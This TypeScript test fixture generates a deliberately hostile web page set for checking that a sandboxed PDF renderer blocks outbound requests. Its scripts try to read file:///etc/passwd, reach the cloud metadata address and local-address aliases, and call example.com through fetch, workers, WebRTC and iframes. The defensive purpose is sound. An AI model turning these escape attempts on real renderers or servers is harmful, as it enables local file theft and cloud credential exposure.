/**
 * A hostile test site: pages that try every known way out of a locked-down renderer (sub-resources, scripts'
 * own network APIs, workers, a service worker, popups, WebRTC, navigations to file:, data: and other hosts).
 * Each attempt targets both a canary on another 127.0.0.1 port and an outside host.
 */
import {mkdir, writeFile} from "node:fs/promises";
import {join} from "node:path";

export const OUTSIDE = "http://example.com";

/** Navigation attempts, each on a page of its own: page path → what it does. */
export function navigationPages(canary: string): Record<string, string> {
  return {
    "/nav-file": `<script>location.href = "file:///etc/passwd";</script>`,
    "/nav-file-replace": `<script>location.replace("file:///etc/passwd");</script>`,
    "/meta-refresh-file": `<meta http-equiv="refresh" content="0;url=file:///etc/passwd">`,
    "/meta-refresh-canary": `<meta http-equiv="refresh" content="0;url=${canary}/meta-refresh">`,
    "/nav-data": `<script>location.href = "data:text/html,<script>alert(1)<\\/script>";</script>`,
    "/nav-canary": `<script>location.href = "${canary}/nav";</script>`,
    "/nav-outside": `<script>location.href = "${OUTSIDE}/nav";</script>`,
    "/form-canary": `<form id=f method=post action="${canary}/form"><input name=a value=b></form><script>f.submit()</script>`,
    "/iframe-file": `<iframe src="file:///etc/passwd"></iframe><iframe src="file:///etc/hostname"></iframe>`,
    "/base-canary": `<base href="${canary}/"><img src="base-img"><script src="base-script.js"></script>`
  };
}

/**
 * Returns where the attempts go: the canary under its own address and under other names for this machine
 * (localhost, 0.0.0.0, 127.1, IPv4-mapped IPv6), the cloud metadata address, and an outside host.
 */
export function targets(canary: string): Record<string, string> {
  const port = new URL(canary).port;
  return {
    canary,
    "canary as localhost": `http://localhost:${port}`,
    "canary as 0.0.0.0": `http://0.0.0.0:${port}`,
    "canary as 127.1": `http://127.1:${port}`,
    "canary as ::ffff:127.0.0.1": `http://[::ffff:127.0.0.1]:${port}`,
    metadata: "http://169.254.169.254/latest/meta-data",
    outside: OUTSIDE
  };
}

/** The main escape page's script: every attempt records its outcome in `window.attempts`. */
function escapeScript(canary: string, udpPort: number, tcpPort: number): string {
  const ws = canary.replace("http:", "ws:");
  return `
window.attempts = {};
const note = (name, promise) => { window.attempts[name] = "pending"; Promise.resolve().then(promise).then((v) => { window.attempts[name] = "reached: " + String(v).slice(0, 80); }, (e) => { window.attempts[name] = "refused: " + String(e && e.message || e).slice(0, 80); }); };
const targets = ${JSON.stringify(targets(canary))};
for (const [where, base] of Object.entries(targets)) {
  note("fetch " + where, () => fetch(base + "/fetch").then((r) => r.text()));
  note("fetch no-cors " + where, () => fetch(base + "/fetch-no-cors", {mode: "no-cors"}).then((r) => r.type));
  note("xhr " + where, () => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.open("GET", base + "/xhr"); x.onload = () => ok(x.responseText); x.onerror = () => fail(new Error("xhr error")); x.send(); }));
  note("import " + where, () => import(base + "/module.js"));
  note("eventsource " + where, () => new Promise((ok, fail) => { const s = new EventSource(base + "/sse"); s.onopen = () => ok("open"); s.onerror = () => { s.close(); fail(new Error("sse error")); }; }));
  note("beacon " + where, () => navigator.sendBeacon(base + "/beacon", "x"));
  const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
  add('<img src="' + base + '/img">');
  add('<iframe src="' + base + '/iframe"></iframe>');
  add('<link rel="stylesheet" href="' + base + '/link.css">');
  add('<style>@import url("' + base + '/import.css"); .bg-' + where + ' {background: url("' + base + '/bg.png")} @font-face {font-family: f' + where + '; src: url("' + base + '/font.woff2")}</style><div class="bg-' + where + '" style="font-family: f' + where + '">x</div>');
  add('<link rel="prefetch" href="' + base + '/prefetch"><link rel="preload" as="image" href="' + base + '/preload.png"><link rel="preconnect" href="' + base + '"><link rel="dns-prefetch" href="' + base + '">');
  add('<object data="' + base + '/object"></object><embed src="' + base + '/embed"><video poster="' + base + '/poster.png"></video><audio src="' + base + '/audio.mp3"></audio>');
  add('<svg><image href="' + base + '/svg-image.png" width="1" height="1"/></svg>');
  const s = document.createElement("script"); s.src = base + "/script.js"; document.body.append(s);
  note("popup " + where, () => { const w = window.open(base + "/popup"); return w ? "opened" : Promise.reject(new Error("popup refused")); });
}
note("websocket canary", () => new Promise((ok, fail) => { const w = new WebSocket(${JSON.stringify(`${ws}/ws`)}); w.onopen = () => ok("open"); w.onerror = () => fail(new Error("ws error")); }));
note("websocket outside", () => new Promise((ok, fail) => { const w = new WebSocket("ws://example.com/ws"); w.onopen = () => ok("open"); w.onerror = () => fail(new Error("ws error")); }));
note("fetch file", () => fetch("file:///etc/passwd").then((r) => r.text()));
note("iframe file", () => { document.body.insertAdjacentHTML("beforeend", '<iframe id="file-frame" src="file:///etc/passwd"></iframe>'); return "inserted"; });
note("iframe data", () => { document.body.insertAdjacentHTML("beforeend", '<iframe src="data:text/html,<img src=${canary}/data-frame-img>"></iframe>'); return "inserted"; });
note("iframe srcdoc", () => { const f = document.createElement("iframe"); f.srcdoc = '<img src="${canary}/srcdoc-img"><script>fetch("${canary}/srcdoc-fetch")<\\/script>'; document.body.append(f); return "inserted"; });
note("iframe blob", () => { const url = URL.createObjectURL(new Blob(['<img src="${canary}/blob-img"><script>fetch("${canary}/blob-fetch")<\\/script>'], {type: "text/html"})); const f = document.createElement("iframe"); f.src = url; document.body.append(f); return url; });
note("service worker", () => navigator.serviceWorker ? navigator.serviceWorker.register("/sw.js").then((r) => "registered " + r.scope) : Promise.reject(new Error("no navigator.serviceWorker")));
note("worker", () => new Promise((ok, fail) => { const w = new Worker("/worker.js"); w.onmessage = (e) => ok(e.data); w.onerror = (e) => fail(new Error("worker error " + e.message)); }));
note("shared worker", () => new Promise((ok, fail) => { if (!window.SharedWorker) return fail(new Error("no SharedWorker")); const w = new SharedWorker("/worker.js"); w.port.onmessage = (e) => ok(e.data); w.onerror = () => fail(new Error("shared worker error")); w.port.start(); }));
note("webrtc", () => new Promise((ok, fail) => {
  const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${udpPort}"}, {urls: "turn:127.0.0.1:${tcpPort}?transport=tcp", username: "u", credential: "c"}, {urls: "stun:example.com:3478"}]});
  pc.createDataChannel("x");
  const found = [];
  pc.onicecandidate = (e) => { if (e.candidate) found.push(e.candidate.candidate.split(" ")[7]); else ok("candidates: " + found.join(",")); };
  pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(fail);
  setTimeout(() => ok("candidates: " + found.join(",")), 2500);
}));
note("speculation rules", () => { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{source: "list", urls: ["${canary}/speculation", "${OUTSIDE}/speculation"]}], prerender: [{source: "list", urls: ["${canary}/prerender"]}]}); document.body.append(s); return "inserted"; });
note("form in iframe", () => { document.body.insertAdjacentHTML("beforeend", '<iframe name="sink"></iframe><form id="f" target="sink" method="post" action="${canary}/form"><input name="a" value="b"></form>'); document.getElementById("f").submit(); return "submitted"; });
`;
}

/** A service worker that tries to reach the canary itself, outside any page's request interception. */
function serviceWorker(canary: string): string {
  return `self.addEventListener("install", (e) => e.waitUntil(fetch("${canary}/sw-install").catch(() => {})));
self.addEventListener("activate", (e) => e.waitUntil(fetch("${canary}/sw-activate").catch(() => {})));
self.addEventListener("fetch", (e) => e.respondWith(fetch("${canary}/sw-fetch").catch(() => fetch(e.request))));
`;
}

/** A worker (dedicated or shared) that tries to reach the canary and the outside host. */
function worker(canary: string): string {
  return `const go = () => Promise.allSettled([fetch("${canary}/worker-fetch"), fetch("${OUTSIDE}/worker-fetch"), new Promise((ok, fail) => { const w = new WebSocket("${canary.replace("http:", "ws:")}/worker-ws"); w.onopen = ok; w.onerror = fail; })]).then((r) => r.map((x) => x.status).join(","));
self.onconnect = (e) => go().then((s) => e.ports[0].postMessage(s));
go().then((s) => self.postMessage && self.postMessage(s));
`;
}

/**
 * Marks the page ready to print after `ms` (as a briefing page does, docs/components/briefing/document.ts), so the
 * PDF renderer goes on to check and print it.
 */
function readyScript(name: string, ms: number): string {
  const meta = {
    name,
    title: name,
    subject: "",
    author: "",
    keywords: [],
    language: "en-US",
    asOf: "2026-01-01",
    version: "",
    paper: "a4",
    skipped: []
  };
  return `setTimeout(() => { document.documentElement.dataset.briefingMeta = ${JSON.stringify(JSON.stringify(meta))}; document.documentElement.dataset.ready = "true"; }, ${ms});`;
}

/**
 * Writes the hostile site into `dir`: index.html (the sub-resource attempts), briefings/escape.html (the same,
 * as a briefing page the PDF renderer prints), one page per navigation, sw.js, worker.js.
 */
export async function writeEscapeSite(dir: string, canary: string, udpPort: number, tcpPort: number): Promise<void> {
  await mkdir(join(dir, "briefings"), {recursive: true});
  const page = (body: string) => `<!doctype html><html><head><meta charset="utf-8"><title>escape</title></head><body>${body}</body></html>`;
  const script = escapeScript(canary, udpPort, tcpPort);
  await writeFile(join(dir, "index.html"), page(`<p id="ok">escape page</p><script>${script}</script>`));
  await writeFile(
    join(dir, "briefings/escape.html"),
    page(`<main><p>escape briefing</p></main><script>${script}\n${readyScript("escape", 3000)}</script>`)
  );
  for (const [path, body] of Object.entries(navigationPages(canary))) await writeFile(join(dir, `${path.slice(1)}.html`), page(body));
  await writeFile(join(dir, "sw.js"), serviceWorker(canary));
  await writeFile(join(dir, "worker.js"), worker(canary));
}
